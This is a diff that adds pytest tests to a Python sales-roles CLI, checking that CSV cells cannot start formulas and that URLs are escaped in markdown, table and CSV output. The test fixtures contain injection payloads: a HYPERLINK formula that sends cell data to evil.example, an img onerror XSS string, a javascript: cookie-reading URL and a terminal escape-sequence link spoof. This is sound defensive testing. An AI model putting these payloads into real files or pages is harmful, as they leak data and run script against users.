@@ -21,7 +21,7 @@ from salesroles.render import json as json_out
 from salesroles.render import markdown, shapes, table
 from salesroles.render.json import OUTPUT_VERSION
 
-from .conftest import FIXTURE, run, write
+from .conftest import FIXTURE, ROOT, run, write
 from .helpers import (
     ARGUMENTS,
     COMMANDS,
@@ -454,3 +454,78 @@ def test_every_dimension_has_its_shape_and_an_absent_one_is_null() -> None:
                                             "cso": None}  # fmt: skip
     career = compared["career"]["values"]["vp"]
     assert set(career) == {"comes_from", "leads_to", "headline", "points"}
+
+
+# --- output that cannot be turned against its reader ------------------------------------
+
+FORMULAS = ROOT / "tests" / "fixtures" / "formulas.toml"  # every text starts a formula
+CSV_ARGUMENTS = {
+    ("list",): [],
+    ("show",): ["boss", "--detail"],
+    ("compare",): ["boss", "clerk", "--detail", "--all"],
+    ("career",): ["clerk", "--to", "boss"],
+    ("search",): ["1"],
+    ("which",): ["=1+1", "-"],
+    ("sources",): [],
+    ("advise",): ["--size", "large", "--horizon", "long", "--scope", "company", "--budget", "yes"],
+}
+TYPED = '=HYPERLINK("https://evil.example/?"&A1,"Click")\n@SUM(A1:A9)\n-2+3\n+cmd\n\t=tab\n'
+
+
+def test_every_csv_command_has_formula_arguments() -> None:
+    assert sorted(CSV_ARGUMENTS) == sorted(FORMATTED)
+
+
+@pytest.mark.parametrize("command", FORMATTED, ids=" ".join)
+def test_no_csv_cell_starts_a_formula(command: tuple[str, ...]) -> None:
+    """OWASP's rule for CSV injection: no cell begins with =, +, -, @, tab or carriage
+    return, whether the text came from the dataset or from `which -`'s input."""
+    args = ["--data", str(FORMULAS), *command, *CSV_ARGUMENTS[command], "--format", "csv"]
+    result = run(*args, input=TYPED)
+    assert result.exit_code == 0, result.stderr
+    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
+    assert any(cell.startswith("'") for cell in cells)  # the hostile text is there, quoted
+    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
+
+
+def test_the_formula_rule_is_written_once() -> None:
+    """render/csv.py and spreadsheet.py (which --from) share one function for it."""
+    from salesroles import spreadsheet
+
+    source = (ROOT / "src" / "salesroles" / "render" / "csv.py").read_text(encoding="utf-8")
+    assert "csv_safe" in source and "startswith" not in source
+    assert csv_out.safe_cell("=1+1") == spreadsheet.csv_safe("=1+1") == "'=1+1"
+    assert csv_out.safe_cell("\r=1") == "\\x0d=1"  # made visible, so no formula either
+
+
+SLIPPED = {  # URLs that validation refuses, as if one had slipped past it
+    "html": "https://ok.example/a> <img src=x onerror=alert(1)>",
+    "script": "javascript:alert(document.cookie)",
+    "escapes": "https://ok.example/\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07",
+}
+
+
+@pytest.mark.parametrize("args", [["show", "boss"], ["sources"], ["sources", "boss"],
+                                  ["compare", "boss", "clerk"]], ids=" ".join)  # fmt: skip
+@pytest.mark.parametrize("url", SLIPPED.values(), ids=SLIPPED.keys())
+def test_a_url_is_escaped_on_output_even_past_validation(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, args: list[str], url: str
+) -> None:
+    from salesroles.dataset import check
+
+    checked = check.check_references
+    monkeypatch.setattr(
+        check, "check_references", lambda d: [p for p in checked(d) if p.loc[-1] != "url"]
+    )
+    text = FORMULAS.read_text(encoding="utf-8")
+    path = write(tmp_path, text.replace('"https://ok.example/a"', json.dumps(url)))
+    for fmt in ("markdown", "table", "csv"):
+        result = run("--data", path, *args, "--format", fmt)
+        assert result.exit_code == 0, result.stderr
+        assert "\x1b" not in result.stdout and "\x07" not in result.stdout
+        if fmt == "markdown":  # as a CommonMark renderer (raw HTML on) shows it
+            rendered = html(result.stdout)
+            assert "<img" not in rendered
+            assert "<javascript:" not in result.stdout  # markdown-it refuses it; not all do
+            links = rendered.split(' href="')[1:]
+            assert all(link.startswith("https://ok.example/") for link in links), links
